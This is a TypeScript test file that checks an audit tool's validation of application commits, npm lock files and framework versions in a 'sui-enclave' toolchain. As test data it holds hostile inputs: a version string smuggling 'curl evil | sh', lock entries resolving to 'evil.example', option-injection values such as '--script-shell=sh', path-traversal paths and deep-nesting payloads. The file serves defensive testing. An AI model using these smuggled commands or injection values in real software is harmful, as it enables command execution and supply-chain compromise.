/**
 * The parts of a commit that an audit uses or refuses. It uses the application but never the framework, and
 * takes packages only by their digests.
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { describe, expect, onTestFinished, test } from 'vitest';
import { BOUNDS, type Bounds } from '../../../../src/toolchain/audit/apart.ts';
import { checkVersion, programLine, readSource } from '../../../../src/toolchain/audit/source.ts';
import { readSourceApart } from '../../../../src/toolchain/audit/source_process.ts';
import type { Omitted } from '../../../../src/toolchain/audit/tree.ts';
import { createdFiles, FRAMEWORK, type Packages, ROOT, weatherFiles } from './applications.ts';
import type { Files } from './git_server.ts';

function writeFolder(files: Files): string {
  const folder = mkdtempSync(join(tmpdir(), 'audit-source-'));
  onTestFinished(() => rmSync(folder, { recursive: true }));
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), content as string | Buffer);
  }
  return folder;
}

function read(files: Files, { folder = '', omitted = [] as Omitted[], framework = FRAMEWORK } = {}) {
  return readSource({ folder: writeFolder(files), files: 0, bytes: 0, omitted }, folder, framework);
}

function catchCode(action: () => unknown): string {
  try {
    action();
    return 'done';
  } catch (error) {
    return (error as { code: string }).code;
  }
}

const withLock = (change: (packages: Packages) => void) => createdFiles('price', change);

describe('an application in a repository of its own', () => {
  test('provides its files, its settings and its packages; everything else comes from the auditor', () => {
    const source = read(createdFiles());
    expect(source).toMatchObject({
      name: 'price',
      appDir: 'src/apps/price',
      isApart: true,
      framework: FRAMEWORK.folder,
      environment: { APP: 'price', NSM_REQUIRED: 'true' },
      manifest: { endpoints: ['api.feed.example'] },
    });
    expect([...source.movePackages.keys()]).toEqual(['price']);
    // Packages of the framework at the same place come from the framework.
    expect([...source.inputs.packages.keys()].filter((path) => path.startsWith('src/'))).toEqual([]);
  });

  test('may be in a folder of its repository', () => {
    const files = Object.fromEntries(
      Object.entries(createdFiles()).map(([path, file]) => [`apps/a/${path}`, file]),
    );
    expect(read(files, { folder: 'apps/a' }).name).toBe('price');
    for (const folder of [
      '',
      '..',
      '/etc',
      'apps/../apps/a',
      'apps/a/',
      './apps/a',
      'apps/b',
      '-x',
      'a\u001b',
    ]) {
      expect(
        catchCode(() => read(files, { folder })),
        folder,
      ).toBe('SOURCE_INVALID');
    }
  });

  test('is refused with a link or submodule among the sources of an image or a contract', () => {
    const omitLink = (path: string): Omitted[] => [{ path, kind: 'a link' }];
    for (const path of ['lib', 'lib/passwd', 'server.env', 'move/price/sources/a.move']) {
      expect(
        catchCode(() => read(createdFiles(), { omitted: omitLink(path) })),
        path,
      ).toBe('SOURCE_UNSAFE');
    }
    for (const path of ['test/fixture', '.github/a', 'node_modules']) {
      expect(
        catchCode(() => read(createdFiles(), { omitted: omitLink(path) })),
        path,
      ).toBe('done');
    }
  });

  test('must have the framework version of this program; the error has the command for another version', () => {
    const source = { url: '', commit: '', folder: '', measurementsSha256: '' };
    checkVersion({ ...source, frameworkVersion: FRAMEWORK.version }, FRAMEWORK);
    const message = (frameworkVersion: string) => {
      try {
        checkVersion({ ...source, frameworkVersion }, FRAMEWORK);
        return '';
      } catch (error) {
        return `${(error as { code: string }).code}: ${(error as Error).message}`;
      }
    };
    expect(message('9.8.7-experimental.abc')).toMatch(
      /^FRAMEWORK_VERSION: .* npm exec --package=<folder>\/sui-enclave-cli-9\.8\.7-experimental\.abc\.tgz --package/,
    );
    // The page begins with this text.
    const page = readFileSync(join(ROOT, 'src/toolchain/audit/README.md'), 'utf8');
    const [, code] = /```sh\n([\s\S]*?)\n```/.exec(page) ?? [];
    expect(code?.startsWith(`${programLine('<version>')} <config id> `)).toBe(true);
    expect(message('9.8.7')).toContain(programLine('9.8.7'));
    // The message does not repeat a text as a command that a shell would run.
    const hostile = message('1; curl evil | sh\u001b');
    expect([hostile.includes('npm exec'), hostile.includes('\u001b')]).toEqual([false, false]);
  });

  const foreignPackage = { version: FRAMEWORK.version, integrity: `sha512-${'Z'.repeat(86)}==` };
  test.each<[string, Packages]>([
    ['the server with another digest', { 'node_modules/sui-enclave-server': foreignPackage }],
    [
      'a second server below a package',
      { 'node_modules/valibot/node_modules/sui-enclave-server': foreignPackage },
    ],
    ['the library with another digest', { 'node_modules/sui-enclave': foreignPackage }],
  ])('is refused if its lock file has %s', (_name, change) => {
    expect(catchCode(() => read(withLock((packages) => void Object.assign(packages, change))))).toBe(
      'FRAMEWORK_UNKNOWN',
    );
  });

  test('is refused if its lock file lacks the server', () => {
    const without = withLock((packages) => void delete packages['node_modules/sui-enclave-server']);
    expect(catchCode(() => read(without))).toBe('FRAMEWORK_UNKNOWN');
  });

  test('is refused by a clone, which does not know the digests of the framework’s packages', () => {
    expect(catchCode(() => read(createdFiles(), { framework: { ...FRAMEWORK, packages: {} } }))).toBe(
      'FRAMEWORK_UNKNOWN',
    );
  });

  const sha = `sha512-${'A'.repeat(86)}==`;
  const lockEntry = { version: '1.0.0', integrity: sha };
  test.each<[string, string, object]>([
    ['from git', 'node_modules/a', { ...lockEntry, resolved: 'git+ssh://git@code.example/a.git#abc' }],
    ['from any URL', 'node_modules/a', { ...lockEntry, resolved: 'https://evil.example/a.tgz' }],
    ['from http', 'node_modules/a', { ...lockEntry, resolved: 'http://registry.example/a/-/a-1.0.0.tgz' }],
    [
      'from the URL of another package',
      'node_modules/a',
      { ...lockEntry, resolved: 'https://registry.example/b/-/b-1.0.0.tgz' },
    ],
    [
      'from a malformed URL',
      'node_modules/a',
      { ...lockEntry, resolved: 'https://registry.example/%zz/a.tgz' },
    ],
    ['from a file', 'node_modules/a', { ...lockEntry, resolved: 'file:../a.tgz' }],
    ['that is a link', 'node_modules/a', { link: true, resolved: '../..' }],
    ['that is a link to the framework', 'node_modules/sui-enclave-server', { link: true, resolved: 'fork' }],
    ['under another name', 'node_modules/a', { ...lockEntry, name: 'b' }],
    ['in another package', 'node_modules/a', { ...lockEntry, inBundle: true }],
    ['with other packages in it', 'node_modules/a', { ...lockEntry, bundleDependencies: ['b'] }],
    ['without a digest', 'node_modules/a', { version: '1.0.0' }],
    ['with SHA-1', 'node_modules/a', { version: '1.0.0', integrity: 'sha1-AAAAAAAAAAAAAAAAAAAAAAAAAAA=' }],
    ['with a choice of digests', 'node_modules/a', { ...lockEntry, integrity: `${sha} sha1-AAAA` }],
    ['with a URL as its version', 'node_modules/a', { ...lockEntry, version: 'https://evil.example/a.tgz' }],
    ['with a range', 'node_modules/a', { ...lockEntry, version: '^1.0.0' }],
    ['with an option as its version', 'node_modules/a', { ...lockEntry, version: '--script-shell=sh' }],
    ['outside of the folder', 'node_modules/../../../etc', lockEntry],
    ['outside of the folder, by a deeper path', 'node_modules/a/node_modules/..', lockEntry],
    ['at an absolute path', '/etc', lockEntry],
    ['with an option as its name', 'node_modules/--globalconfig', lockEntry],
    ['of a workspace', 'packages/a', { version: '1.0.0' }],
    ['with a control character', 'node_modules/a\u001b', lockEntry],
    ['with the name of a property that every object has', 'constructor', lockEntry],
  ])('is refused with a package %s, even if nothing uses the package', (_name, path, entry) => {
    const files = withLock((packages) => {
      packages[path] = { ...entry };
    });
    expect(catchCode(() => read(files))).toBe('LOCK_UNTRUSTED');
  });

  test('may have the framework at a URL whose host does not exist, as create-sui-enclave --from writes it', () => {
    const files = withLock((packages) => {
      const { version } = FRAMEWORK;
      for (const name of ['sui-enclave', 'sui-enclave-server', 'sui-enclave-cli']) {
        const resolved = `https://packages.invalid/${name}/-/${name}-${version}.tgz`;
        Object.assign(packages[`node_modules/${name}`] ?? {}, { resolved });
      }
    });
    expect(read({ ...files, 'packages/sui-enclave.tgz': 'not read' }).name).toBe('price');
  });

  test('may name the registry, which is not asked, and may have packages of its own', () => {
    const files = withLock((packages) => {
      packages['node_modules/@a/b'] = {
        ...lockEntry,
        resolved: 'https://registry.example/@a/b/-/b-1.0.0.tgz',
      };
      packages['node_modules/constructor'] = lockEntry;
      Object.assign(packages['']?.['dependencies'] ?? {}, { '@a/b': '1.0.0', constructor: '1.0.0' });
    });
    const { inputs } = read(files);
    expect(inputs.packages.has('src/apps/price/node_modules/constructor')).toBe(true);
    expect(inputs.packages.get('src/apps/price/node_modules/@a/b')).toMatchObject({
      name: '@a/b',
      version: '1.0.0',
    });
  });

  test.each([
    '{',
    '[]',
    '{"lockfileVersion": 1, "dependencies": {}}',
    '{"lockfileVersion": 3, "packages": {"": 1}}',
  ])('is refused with an invalid lock file: %s', (text) =>
    expect(catchCode(() => read({ ...createdFiles(), 'package-lock.json': text }))).toBe('LOCK_UNTRUSTED'),
  );

  test('does not build with an invalid app.yaml, server.env or package.json', () => {
    for (const [path, text] of [
      ['app.yaml', 'name: price\nendpoints: ['],
      ['app.yaml', 'endpoints: []\nsecrets: []'],
      ['server.env', 'NOT A SETTING'],
      ['app.yaml', `${createdFiles()['app.yaml']}# ${'x'.repeat(65_536)}`],
      ['app.yaml', Array.from({ length: 50_000 }, (_, at) => `a${at}: 1`).join('\n')],
      ['server.env', `A=${'x'.repeat(1_000_000)}`],
    ] as const) {
      expect(
        catchCode(() => read({ ...createdFiles(), [path]: text })),
        text,
      ).toBe('SOURCE_INVALID');
    }
  });
});

test('the commit must have the folders that app.yaml names', () => {
  const yaml = `${createdFiles()['app.yaml']}files: [public]\n`;
  const files = { ...createdFiles(), 'app.yaml': yaml, 'public/index.html': '<p>' };
  expect(read(files).manifest.files).toEqual(['public']);
  expect(catchCode(() => read({ ...createdFiles(), 'app.yaml': yaml }))).toBe('SOURCE_INVALID');
  expect(catchCode(() => read({ ...files, 'public/.env': '' }))).toBe('SOURCE_INVALID');
  const omitted: Omitted[] = [{ path: 'public/passwd', kind: 'a link' }];
  expect(catchCode(() => read(files, { omitted }))).toBe('SOURCE_UNSAFE');
});

describe('the process that reads a commit', () => {
  const readApart = async (files: Files, bounds?: Bounds) => {
    const tree = { folder: writeFolder(files), files: 0, bytes: 0, omitted: [] };
    return await readSourceApart(tree, '', FRAMEWORK, bounds);
  };
  const catchReadCode = async (files: Files, bounds?: Bounds) =>
    await readApart(files, bounds).then(
      () => 'done',
      ({ code, message }: { code?: string; message: string }) => code ?? message,
    );

  test('returns the same as a read in this process', async () => {
    const files = createdFiles();
    const tree = { folder: writeFolder(files), files: 0, bytes: 0, omitted: [] };
    expect(await readSourceApart(tree, '', FRAMEWORK)).toEqual(readSource(tree, '', FRAMEWORK));
    expect(await catchReadCode({ ...files, 'app.yaml': 'name: price' })).toBe('SOURCE_INVALID');
  });

  test('ends when YAML takes too long', async () => {
    const names = Array.from({ length: 20_000 }, (_, at) => at.toString(36)).join(',');
    const files = { ...createdFiles(), 'app.yaml': `{${names.slice(0, 65_000)}}` };
    expect(await catchReadCode(files, { ...BOUNDS, ms: 500 })).toBe('SOURCE_TOO_LARGE');
  });

  test.each([
    ['app.yaml', '['.repeat(60_000), 'SOURCE_INVALID'],
    ['app.yaml', `secrets: ${'{a: '.repeat(10_000)}`, 'SOURCE_INVALID'],
    ['package-lock.json', '['.repeat(3_000_000), 'LOCK_UNTRUSTED'],
    ['package-lock.json', createNestedLock(1_000_000), 'SOURCE_TOO_LARGE'],
  ])('refuses deep nesting with a code: %s', async (path, text, code) => {
    expect(await catchReadCode({ ...createdFiles(), [path]: text })).toBe(code);
  });
});

/** Returns a lock file whose root has nested values. */
function createNestedLock(depth: number): string {
  const lock = JSON.parse(String(createdFiles()['package-lock.json']));
  lock.packages[''].bundleDependencies = 0;
  const deep = `${'[['.repeat(depth)}${']]'.repeat(depth)}`;
  return JSON.stringify(lock).replace('"bundleDependencies":0', `"bundleDependencies":${deep}`);
}

describe('an application in a clone of the framework', () => {
  const options = { folder: 'src/apps/weather' };

  test('is built with the auditor’s framework, which equals that of the commit byte for byte', () => {
    const source = read(weatherFiles(), options);
    expect(source).toMatchObject({
      name: 'weather',
      isApart: false,
      appDir: 'src/apps/weather',
      framework: FRAMEWORK.folder,
    });
    expect(source.inputs.needed.workspaces).toContain('src/apps/weather');
    expect(source.inputs.packages.get('node_modules/axios')?.version).toBe(
      JSON.parse(readFileSync(join(ROOT, 'package.json'), 'utf8')).dependencies.axios,
    );
    expect([...source.movePackages.keys()]).toContain('weather');
  });

  test.each([
    ['src/server/keys/key.ts', (text: string) => `${text}\n`],
    ['enclave/kernel.cmdline', (text: string) => text.replace('reboot', 'Reboot')],
    ['Containerfile', (text: string) => `${text}# more\n`],
    [
      'package-lock.json',
      (text: string) =>
        text.replace(/("node_modules\/express": \{[^}]*?sha512-)./, '$1_').replace('sha512-_', 'sha512-Z'),
    ],
  ])('is refused if the state of its framework is not that of this program: %s', (path, change) => {
    const before = String(weatherFiles()[path]);
    expect(change(before)).not.toBe(before);
    const files = { ...weatherFiles(), [path]: change(before) };
    expect(catchCode(() => read(files, options))).toBe('FRAMEWORK_VERSION');
  });

  test('is refused if its framework has one file more or less', () => {
    expect(catchCode(() => read({ ...weatherFiles(), 'src/service/more.ts': '' }, options))).toBe(
      'FRAMEWORK_VERSION',
    );
    const { 'src/library/errors.ts': _gone, ...otherFiles } = weatherFiles();
    expect(catchCode(() => read(otherFiles, options))).toBe('FRAMEWORK_VERSION');
  });

  test('may have links only to packages of the clone', () => {
    const lock = JSON.parse(String(weatherFiles()['package-lock.json']));
    lock.packages['node_modules/axios'] = { link: true, resolved: 'src/apps/weather' };
    const files = { ...weatherFiles(), 'package-lock.json': JSON.stringify(lock) };
    expect(catchCode(() => read(files, options))).toBe('LOCK_UNTRUSTED');
  });

  test('must be in src/apps: in another folder, it would replace a tool of the build', () => {
    const app = Object.entries(weatherFiles()).filter(([path]) => path.startsWith('src/apps/weather/'));
    for (const folder of ['node_modules/rolldown', 'src/toolchain', 'src', 'src/apps/weather/x', 'build']) {
      const moved = app.map(([path, file]) => [path.replace('src/apps/weather', folder), file]);
      const files = { ...weatherFiles(), ...Object.fromEntries(moved) };
      expect(
        catchCode(() => read(files, { folder })),
        folder,
      ).toBe('SOURCE_INVALID');
    }
  });

  test.each([
    'src/server/node_modules/express',
    'src/library/node_modules/@noble/curves',
    'node_modules/express/node_modules/qs',
  ])('can not put a package where the framework would import it first: %s', (path) => {
    const lock = JSON.parse(String(weatherFiles()['package-lock.json']));
    lock.packages[path] = { version: '1.0.0', integrity: `sha512-${'Z'.repeat(86)}==` };
    const files = { ...weatherFiles(), 'package-lock.json': JSON.stringify(lock) };
    expect(catchCode(() => read(files, options))).toBe('FRAMEWORK_VERSION');
  });

  test('may have packages of its own', () => {
    const lock = JSON.parse(String(weatherFiles()['package-lock.json']));
    const lockEntry = { version: '1.0.0', integrity: `sha512-${'Z'.repeat(86)}==` };
    lock.packages['src/apps/weather'].dependencies['a'] = '1.0.0';
    for (const path of ['node_modules/a', 'src/apps/weather/node_modules/axios'])
      lock.packages[path] = lockEntry;
    const { inputs } = read({ ...weatherFiles(), 'package-lock.json': JSON.stringify(lock) }, options);
    expect([...inputs.packages.keys()]).toEqual(
      expect.arrayContaining(['node_modules/a', 'src/apps/weather/node_modules/axios']),
    );
  });

  test('is refused in another repository without a lock file', () => {
    const { 'package-lock.json': _lock, ...otherFiles } = createdFiles();
    expect(catchCode(() => read(otherFiles))).toBe('SOURCE_INVALID');
  });
});
